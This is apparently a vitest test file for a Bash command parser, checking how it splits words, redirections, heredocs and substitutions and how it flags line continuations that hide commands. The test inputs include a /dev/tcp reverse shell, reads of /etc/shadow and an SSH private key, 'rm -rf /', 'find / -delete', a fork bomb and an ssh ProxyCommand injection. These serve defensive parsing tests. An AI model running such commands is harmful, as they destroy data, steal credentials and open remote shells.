import { beforeAll, describe, expect, it } from "vitest";
import { loadBashParser } from "./parse.js";
import type { BashParser } from "./parse.js";

let parser: BashParser;
beforeAll(async () => {
  parser = await loadBashParser();
});

const argv = (text: string): string[][] =>
  parser
    .parse(text)
    .commands.filter((c) => c.words.length)
    .map((c) => c.words.map((w) => w.text));

describe("parse", () => {
  it("keeps the words the grammar hangs on a redirection as the command's arguments", () => {
    expect(argv("find 2>/dev/null / -delete")).toEqual([["find", "/", "-delete"]]);
    expect(argv("cat 2>/dev/null /etc/shadow /root/.ssh/id_rsa")).toEqual([["cat", "/etc/shadow", "/root/.ssh/id_rsa"]]);
    expect(argv("echo hi > /tmp/x foo")).toEqual([["echo", "hi", "foo"]]);
    const [c] = parser.parse("systemctl 2>/dev/null poweroff").commands;
    expect(c?.redirects.map((r) => `${r.op} ${r.target.text}`)).toEqual([">  /dev/null".replace("  ", " ")]);
  });

  it("reads a number glued to a redirection as its file descriptor, not a word", () => {
    expect(argv("sh -i 0</dev/tcp/1.2.3.4/4444 1>&0 2>&0")).toEqual([["sh", "-i"]]);
    expect(argv("echo 0 > /tmp/x")).toEqual([["echo", "0"]]);
  });

  it("splits lists, pipelines, subshells and groups", () => {
    expect(argv("a x | b; (c && d) || { e; } & f")).toEqual([["a", "x"], ["b"], ["c"], ["d"], ["e"], ["f"]]);
  });

  it("finds commands inside substitutions, backticks and process substitution", () => {
    expect(argv('echo "$(id)" `whoami` <(ls) $((1+2))')).toEqual([
      ["echo", "$(id)", "`whoami`", "<(ls)", "$((1+2))"],
      ["id"],
      ["whoami"],
      ["ls"],
    ]);
  });

  it("removes quotes and backslashes and decodes $'…'", () => {
    expect(argv("r''m \\-rf \"a b\" $'\\x72m'")).toEqual([["rm", "-rf", "a b", "rm"]]);
  });

  it("marks expansions dynamic and unquoted globs as globs", () => {
    const [c] = parser.parse('rm "$DIR"/* *.log').commands;
    expect(c?.words.map((w) => [w.text, w.dynamic, w.glob])).toEqual([
      ["rm", false, false],
      ["$DIR/*", true, true],
      ["*.log", false, true],
    ]);
  });

  it("feeds heredocs and pipes to the command that reads them", () => {
    const cmds = parser.parse("cat <<'EOF' | sh\nrm -rf /\nEOF").commands;
    expect(cmds[1]?.stdin).toEqual({ kind: "pipe", text: "rm -rf /\n", dynamic: false });
    const list = parser.parse("true && bash <<EOF\nls\nEOF").commands;
    expect(list.find((c) => c.words[0]?.text === "bash")?.stdin?.kind).toBe("heredoc");
    expect(parser.parse("echo hi | bash").commands[1]?.stdin?.text).toBe("hi");
  });

  it("records redirections and function definitions", () => {
    const [c] = parser.parse("ls > out.txt 2>&1").commands;
    expect(c?.redirects.map((r) => [r.op, r.target.text])).toEqual([[">", "out.txt"]]);
    expect(parser.parse(":(){ :|:& };:").commands[0]?.fn).toEqual({ name: ":", recursive: true, forks: true });
  });

  it("flags input that does not parse", () => {
    expect(parser.parse("echo 'open").error).toBe(true);
    expect(parser.parse("ls )").error).toBe(true);
    expect(parser.parse("ls -la").error).toBe(false);
  });

  it("flags a line continuation the grammar reads otherwise than bash", () => {
    // bash joins `ss\⏎h` into ssh; the grammar reads two words.
    expect(parser.parse("ss\\\nh -o ProxyCommand=id x").error).toBe(true);
    expect(parser.parse("cat /etc/sha\\\ndow").error).toBe(true);
    // bash reads `\<CR>` as an escaped CR and runs the next line on its own; the grammar hid it.
    expect(parser.parse("ls \\\r\nrm -rf ~").error).toBe(true);
    expect(parser.parse("ls \\\rx").error).toBe(true);
    // Between words, both read the same; an escaped backslash before the newline continues nothing.
    expect(parser.parse("git log \\\n  --oneline").error).toBe(false);
    expect(parser.parse("ls\\\n -la").error).toBe(false);
    expect(parser.parse("echo a\\\\\nls").error).toBe(false);
    expect(parser.parse("echo a\\\\\nls").commands.map((c) => c.words[0]?.text)).toEqual(["echo", "ls"]);
  });

  it("flags a simple command the grammar carried over a line break", () => {
    // tree-sitter-bash issue 347: after a three-stage pipeline, the next line's words became head's arguments.
    const p = parser.parse("ls | grep x | head -30\ntouch ~/.bashrc && cd s");
    expect(p.commands.some((c) => c.words.some((w) => w.text === "touch"))).toBe(true);
    expect(p.error).toBe(true);
    expect(parser.parse("ls | grep x | head -30\ntouch a.txt").error).toBe(false);
    expect(parser.parse("ls \\\n  -la\nls").error).toBe(false);
  });
});
